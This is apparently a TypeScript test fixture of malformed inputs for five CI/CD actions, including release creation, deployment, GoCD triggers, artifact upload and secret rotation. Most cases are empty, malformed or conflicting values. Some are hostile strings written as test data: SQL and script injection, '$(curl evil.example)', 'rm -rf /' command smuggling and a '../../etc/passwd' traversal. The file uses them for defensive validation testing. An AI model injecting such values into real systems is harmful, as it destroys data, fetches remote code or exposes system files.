/**
 * Malformed inputs for the five actions. Each case overrides a valid base job (see `baseInputs` in the test files)
 * and names the input the failure message must mention. Kinds: empty, whitespace, wrong type, bad URL, unknown
 * enum, conflicting options, huge value, unicode, injection-looking strings.
 */
import type { ActionName } from './helpers/bundle-run.js'

export interface BadInputCase {
  action: ActionName
  kind: 'empty' | 'whitespace' | 'wrong type' | 'bad url' | 'unknown enum' | 'conflict' | 'huge' | 'unicode' | 'injection'
  /** Overrides of the base inputs; `undefined` removes a base input. */
  inputs: Record<string, string | undefined>
  /** The input the message must name (quoted, as the actions print them: 'name'). */
  names: string
  /** A product bug this case reveals (reported): the case runs as a failing test until the action is fixed. */
  bug?: string
}

const HUGE = 'x'.repeat(100_000)
const INJECTION = `"; DROP TABLE releases; -- $(curl evil.example) \`id\` <script>alert(1)</script>`

export const CREATE_RELEASE: BadInputCase[] = [
  { action: 'create-release', kind: 'empty', inputs: { project: '' }, names: 'project' },
  { action: 'create-release', kind: 'whitespace', inputs: { project: '   \t ' }, names: 'project' },
  { action: 'create-release', kind: 'bad url', inputs: { server: 'not a url' }, names: 'server' },
  { action: 'create-release', kind: 'bad url', inputs: { server: 'ftp://octopus.example.com' }, names: 'server' },
  { action: 'create-release', kind: 'bad url', inputs: { server: 'http://' }, names: 'server' },
  { action: 'create-release', kind: 'wrong type', inputs: { ignore_existing: 'yes' }, names: 'ignore_existing' },
  { action: 'create-release', kind: 'wrong type', inputs: { ignore_channel_rules: '1' }, names: 'ignore_channel_rules' },
  { action: 'create-release', kind: 'conflict', inputs: { release_notes: 'notes', release_notes_file: 'notes.md' }, names: 'release_notes_file' },
  { action: 'create-release', kind: 'conflict', inputs: { service_account_id: '6f1c5a3e-1a2b-4c3d-8e9f-0a1b2c3d4e5f' }, names: 'service_account_id' },
  { action: 'create-release', kind: 'wrong type', inputs: { deploy_to: 'Dev', timeout: 'forever' }, names: 'timeout' },
  { action: 'create-release', kind: 'wrong type', inputs: { deploy_to: 'Dev', wait: 'maybe' }, names: 'wait' },
  { action: 'create-release', kind: 'wrong type', inputs: { insecure_skip_tls_verify: 'TRUEISH' }, names: 'insecure_skip_tls_verify' },
  { action: 'create-release', kind: 'wrong type', inputs: { custom_fields: 'no separator here' }, names: 'custom_fields' },
  {
    action: 'create-release',
    kind: 'huge',
    inputs: { release_number: HUGE },
    names: 'release_number'
  },
  { action: 'create-release', kind: 'injection', inputs: { project: INJECTION }, names: 'project' },
  { action: 'create-release', kind: 'unicode', inputs: { channel: '通道🚀\u202e' }, names: 'channel' }
]

export const DEPLOY: BadInputCase[] = [
  { action: 'deploy', kind: 'empty', inputs: { release_number: '' }, names: 'release_number' },
  { action: 'deploy', kind: 'empty', inputs: { environments: '' }, names: 'environments' },
  { action: 'deploy', kind: 'whitespace', inputs: { environments: ' \n  \n' }, names: 'environments' },
  { action: 'deploy', kind: 'conflict', inputs: { environment: 'Test' }, names: 'environment' },
  { action: 'deploy', kind: 'wrong type', inputs: { use_guided_failure: 'sometimes' }, names: 'use_guided_failure' },
  { action: 'deploy', kind: 'wrong type', inputs: { deploy_at: 'tomorrow morning' }, names: 'deploy_at' },
  { action: 'deploy', kind: 'conflict', inputs: { deploy_at_expiry: '2030-01-01T00:00:00Z' }, names: 'deploy_at' },
  { action: 'deploy', kind: 'wrong type', inputs: { poll_interval: '-5s' }, names: 'poll_interval' },
  { action: 'deploy', kind: 'wrong type', inputs: { timeout: '0' }, names: 'timeout' },
  { action: 'deploy', kind: 'huge', inputs: { timeout: '99999999999999999999h' }, names: 'timeout' },
  { action: 'deploy', kind: 'wrong type', inputs: { variables: 'Change Ticket' }, names: 'variables' },
  { action: 'deploy', kind: 'wrong type', inputs: { force_package_redeployment: 'ja' }, names: 'force_package_redeployment' },
  { action: 'deploy', kind: 'bad url', inputs: { server: 'octopus.example.com:abc' }, names: 'server' },
  { action: 'deploy', kind: 'empty', inputs: { api_key: '', server: '' }, names: 'server' },
  { action: 'deploy', kind: 'injection', inputs: { environments: '$(rm -rf /)\n`reboot`' }, names: 'environments' },
  { action: 'deploy', kind: 'unicode', inputs: { project: 'Ｒａｎｄｏｍ Ｑｕｏｔｅｓ 🚀' }, names: 'project' }
]

export const GOCD: BadInputCase[] = [
  { action: 'trigger-gocd-pipeline', kind: 'empty', inputs: { pipeline: '' }, names: 'pipeline' },
  { action: 'trigger-gocd-pipeline', kind: 'injection', inputs: { pipeline: 'up42; rm -rf / #' }, names: 'pipeline' },
  { action: 'trigger-gocd-pipeline', kind: 'huge', inputs: { pipeline: 'p'.repeat(300) }, names: 'pipeline' },
  { action: 'trigger-gocd-pipeline', kind: 'unicode', inputs: { pipeline: 'パイプライン' }, names: 'pipeline' },
  { action: 'trigger-gocd-pipeline', kind: 'wrong type', inputs: { environment_variables: 'NOEQUALS' }, names: 'environment_variables' },
  { action: 'trigger-gocd-pipeline', kind: 'wrong type', inputs: { secure_environment_variables: 'JUSTANAME' }, names: 'secure_environment_variables' },
  { action: 'trigger-gocd-pipeline', kind: 'conflict', inputs: { environment_variables: 'API_TOKEN=a', secure_environment_variables: 'API_TOKEN=b' }, names: 'secure_environment_variables' },
  { action: 'trigger-gocd-pipeline', kind: 'empty', inputs: { materials: 'https://github.com/gocd/gocd=' }, names: 'materials' },
  { action: 'trigger-gocd-pipeline', kind: 'unknown enum', inputs: { wait_for: 'every stage!' }, names: 'wait_for' },
  { action: 'trigger-gocd-pipeline', kind: 'wrong type', inputs: { timeout: '5s' }, names: 'timeout' },
  { action: 'trigger-gocd-pipeline', kind: 'wrong type', inputs: { wait: 'yes' }, names: 'wait' },
  { action: 'trigger-gocd-pipeline', kind: 'bad url', inputs: { server: 'gocd.example.com' }, names: 'server' },
  { action: 'trigger-gocd-pipeline', kind: 'conflict', inputs: { username: 'demo', password: 'demo-password' }, names: 'token' },
  { action: 'trigger-gocd-pipeline', kind: 'wrong type', inputs: { queue_if_busy: '2' }, names: 'queue_if_busy' },
  { action: 'trigger-gocd-pipeline', kind: 'whitespace', inputs: { pipeline: '   ' }, names: 'pipeline' }
]

export const UPLOAD: BadInputCase[] = [
  { action: 'upload-artifact', kind: 'empty', inputs: { path: '' }, names: 'path' },
  { action: 'upload-artifact', kind: 'whitespace', inputs: { path: '  \n \n' }, names: 'path' },
  { action: 'upload-artifact', kind: 'unknown enum', inputs: { destination: 's3' }, names: 'destination' },
  { action: 'upload-artifact', kind: 'unknown enum', inputs: { if_no_files_found: 'explode' }, names: 'if_no_files_found' },
  { action: 'upload-artifact', kind: 'wrong type', inputs: { compression_level: '10' }, names: 'compression_level' },
  { action: 'upload-artifact', kind: 'wrong type', inputs: { compression_level: 'fast' }, names: 'compression_level' },
  { action: 'upload-artifact', kind: 'wrong type', inputs: { retention_days: '0' }, names: 'retention_days' },
  { action: 'upload-artifact', kind: 'injection', inputs: { name: 'a/b:c*d?"<x>|' }, names: 'name' },
  { action: 'upload-artifact', kind: 'conflict', inputs: { token: 'gocd-token-not-for-github' }, names: 'token' },
  { action: 'upload-artifact', kind: 'conflict', inputs: { destination: 'octopus', package_id: 'bench-package' }, names: 'package_version' },
  { action: 'upload-artifact', kind: 'wrong type', inputs: { destination: 'octopus', package_id: 'bench-package', package_version: 'not a version' }, names: 'package_version' },
  { action: 'upload-artifact', kind: 'empty', inputs: { destination: 'gocd', pipeline: 'up42', stage: 'up42_stage', job: 'up42_job' }, names: 'pipeline_counter' },
  { action: 'upload-artifact', kind: 'injection', inputs: { destination: 'gocd', pipeline: 'up42', pipeline_counter: '1', stage: 'up42_stage', job: 'up42_job', remote_path: '../../etc/passwd' }, names: 'remote_path' },
  { action: 'upload-artifact', kind: 'wrong type', inputs: { include_hidden_files: 'sometimes' }, names: 'include_hidden_files' },
  { action: 'upload-artifact', kind: 'unicode', inputs: { destination: 'octopus', package_id: 'пакет💥', package_version: '1.0.0' }, names: 'package_id' }
]

export const ROTATE: BadInputCase[] = [
  { action: 'rotate-secret', kind: 'empty', inputs: { source: '' }, names: 'source' },
  { action: 'rotate-secret', kind: 'unknown enum', inputs: { source: 'vault' }, names: 'source' },
  { action: 'rotate-secret', kind: 'injection', inputs: { secret_name: 'GITHUB_TOKEN' }, names: 'secret_name' },
  { action: 'rotate-secret', kind: 'wrong type', inputs: { secret_name: '1ABC' }, names: 'secret_name' },
  { action: 'rotate-secret', kind: 'injection', inputs: { secret_name: 'NAME; rm -rf /' }, names: 'secret_name' },
  { action: 'rotate-secret', kind: 'unicode', inputs: { secret_name: 'СЕКРЕТ_秘密' }, names: 'secret_name' },
  { action: 'rotate-secret', kind: 'wrong type', inputs: { targets: 'repo:not a valid target' }, names: 'targets' },
  { action: 'rotate-secret', kind: 'conflict', inputs: { targets: 'repo:octo-org/deploy-app\nrepo:octo-org/deploy-app' }, names: 'targets' },
  { action: 'rotate-secret', kind: 'wrong type', inputs: { length: '8' }, names: 'length' },
  { action: 'rotate-secret', kind: 'huge', inputs: { length: '999999999999' }, names: 'length' },
  { action: 'rotate-secret', kind: 'unknown enum', inputs: { charset: 'emoji' }, names: 'charset' },
  { action: 'rotate-secret', kind: 'conflict', inputs: { source: 'value' }, names: 'value' },
  { action: 'rotate-secret', kind: 'conflict', inputs: { value: 'rotate-value-SHOULD-NOT-BE-USED-71c3' }, names: 'value' },
  { action: 'rotate-secret', kind: 'wrong type', inputs: { keep_previous: '-1' }, names: 'keep_previous' },
  { action: 'rotate-secret', kind: 'unknown enum', inputs: { targets: 'org:octo-org', visibility: 'public' }, names: 'visibility' },
  { action: 'rotate-secret', kind: 'bad url', inputs: { github_api_url: 'not-a-url' }, names: 'github_api_url' },
  { action: 'rotate-secret', kind: 'wrong type', inputs: { dry_run: 'perhaps' }, names: 'dry_run' },
  { action: 'rotate-secret', kind: 'whitespace', inputs: { secret_name: '  ' }, names: 'secret_name' }
]
